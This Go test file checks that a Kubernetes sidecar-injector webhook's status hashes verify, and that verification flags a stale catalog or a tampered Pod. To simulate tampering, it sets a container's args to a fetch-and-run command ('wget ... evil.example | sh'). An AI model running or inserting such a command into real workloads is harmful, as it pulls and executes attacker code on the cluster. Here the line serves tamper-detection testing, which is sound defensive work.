package inject

import (
	"bytes"
	"os"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/yaml"

	"github.com/podpatterns/sidecar-injector/pkg/catalog"
)

// A status entry in the compiled policies' form, the held JSON itself,
// verifies as the webhook's hash of it does: current, then stale when the
// catalog moves, tampered when the Pod's copy changes.
func TestAHeldEntryVerifiesAsItsHashDoes(t *testing.T) {
	data, err := os.ReadFile("testdata/golden/content-filler-nginx.yaml.injected")
	if err != nil {
		t.Fatal(err)
	}
	pod := &corev1.Pod{}
	if err := yaml.Unmarshal(data, pod); err != nil {
		t.Fatal(err)
	}
	cat := mustParse(t, catalog.DefaultYAML())
	status, _ := readStatus(pod)
	b, err := newBuilder(pod, cat, status)
	if err != nil {
		t.Fatal(err)
	}
	for i, in := range status.Templates {
		held := heldJSON(pod, nil, cat.Template(in.Name), b.targets)
		if HashHeld(held) != in.Hash {
			t.Fatalf("%s: the webhook's hash %s is not the hash of the held JSON %s", in.Name, in.Hash, held)
		}
		status.Templates[i] = Injected{Name: in.Name, Held: held}
	}
	pod.Annotations[StatusAnnotation] = status.String()

	claims := verify(t, pod, cat)
	if claims[0].Reason != "" {
		t.Fatalf("the held entry of the webhook's own Pod does not verify: %s", claims[0].Reason)
	}
	moved := mustParse(t, bytes.ReplaceAll(catalog.DefaultYAML(), []byte("busybox:1.37.0"), []byte("busybox:1.37.1")))
	if c := verify(t, pod, moved)[0]; c.Reason == "" || !c.Kept {
		t.Errorf("after the catalog moved: %+v, want stale (a reason, kept)", c)
	}
	tampered := pod.DeepCopy()
	for i := range tampered.Spec.Containers {
		if tampered.Spec.Containers[i].Name == "content-filler" {
			tampered.Spec.Containers[i].Args = []string{"wget -qO- http://evil.example | sh"}
		}
	}
	if c := verify(t, tampered, cat)[0]; c.Reason == "" || c.Kept {
		t.Errorf("after the Pod's copy changed: %+v, want tampered (a reason, not kept)", c)
	}
}

func verify(t *testing.T, pod *corev1.Pod, cat *catalog.Catalog) []Claim {
	t.Helper()
	claims, err := VerifyStatus(pod, cat)
	if err != nil || len(claims) != 1 {
		t.Fatalf("VerifyStatus: %v, %v", claims, err)
	}
	return claims
}

func mustParse(t *testing.T, data []byte) *catalog.Catalog {
	t.Helper()
	cat, err := catalog.Parse(catalog.Source{Name: "default.yaml", Data: data})
	if err != nil {
		t.Fatal(err)
	}
	return cat
}
